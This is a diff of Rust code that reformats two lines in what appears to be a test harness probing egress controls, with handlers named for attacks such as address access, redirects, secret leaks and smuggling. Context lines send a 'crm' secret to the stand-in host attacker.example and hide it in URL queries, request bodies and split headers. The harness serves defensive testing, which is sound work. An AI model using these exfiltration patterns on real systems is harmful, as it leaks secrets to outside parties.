@@ -49,7 +49,8 @@ const ADDRESSES: [&str; 20] = [
 #[handler]
 fn handle(call: &Call) -> Result<()> {
     let mut report = Report::new(call);
-    let server = call.metadata("server").ok_or("the note `server` is missing; write an allowed server's address into it")?;
+    let server =
+        call.metadata("server").ok_or("the note `server` is missing; write an allowed server's address into it")?;
     match report.attack().as_str() {
         "addresses" => addresses(&mut report, &server, &call.metadata("port").unwrap_or_else(|| "8088".to_owned())),
         "redirects" => redirects(&mut report, &server),
@@ -89,7 +90,10 @@ fn secrets(report: &mut Report<'_>, server: &str) {
     report.host("stranger", with("https://attacker.example/".to_owned(), secret("crm")));
     report.host("in the address", Request::get(format!("{server}/echo?{}", secret("crm"))).send());
     report.host("in the body", Request::post(format!("{server}/echo")).body(secret("crm")).send());
-    report.host("in pieces", Request::get(format!("{server}/echo")).header("x-key", secret("crm")).header("range", "bytes=0-3").send());
+    report.host(
+        "in pieces",
+        Request::get(format!("{server}/echo")).header("x-key", secret("crm")).header("range", "bytes=0-3").send(),
+    );
 }
 
 fn smuggle(report: &mut Report<'_>, server: &str) {
